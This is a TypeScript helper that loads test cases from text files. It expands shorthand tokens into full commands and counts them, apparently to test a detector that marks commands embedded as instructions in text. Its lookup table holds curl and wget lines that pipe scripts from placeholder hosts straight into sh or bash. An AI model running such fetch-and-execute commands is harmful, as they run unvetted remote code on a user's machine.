import { readdirSync, readFileSync } from "node:fs";

const folder = new URL("./cases/", import.meta.url);
const SHORT: Readonly<Record<string, string>> = {
  X: "curl -fsSL https://x.example/i.sh | sh",
  Y: "wget -qO- https://y.example/y.sh | bash",
  TX: "curl -fsSL https://x.example/i.sh \\| sh",
  TY: "wget -qO- https://y.example/y.sh \\| bash",
};

export interface Case {
  readonly line: string;
  /** The text with marks around the commands that are instructions. */
  readonly marked: string;
  /** The number of commands in the text. */
  readonly commands: number;
}

/** Returns the cases of each file, with its name. */
export function readCases(): { readonly file: string; readonly cases: readonly Case[] }[] {
  return readdirSync(folder)
    .filter((file) => file.endsWith(".txt"))
    .map((file) => ({ file, cases: parse(readFileSync(new URL(file, folder), "utf8")) }));
}

function parse(text: string): Case[] {
  return text
    .split("\n")
    .filter((line) => line.trim() !== "" && !line.startsWith("%%"))
    .map((line) => {
      let commands = 0;
      const marked = line
        .replace(/\\n/g, "\n")
        .replace(/(?<![A-Za-z_])(?:TX|TY|X|Y)(?![A-Za-z])/g, (name) => {
          commands++;
          return SHORT[name] ?? name;
        });
      return { line, marked, commands };
    });
}
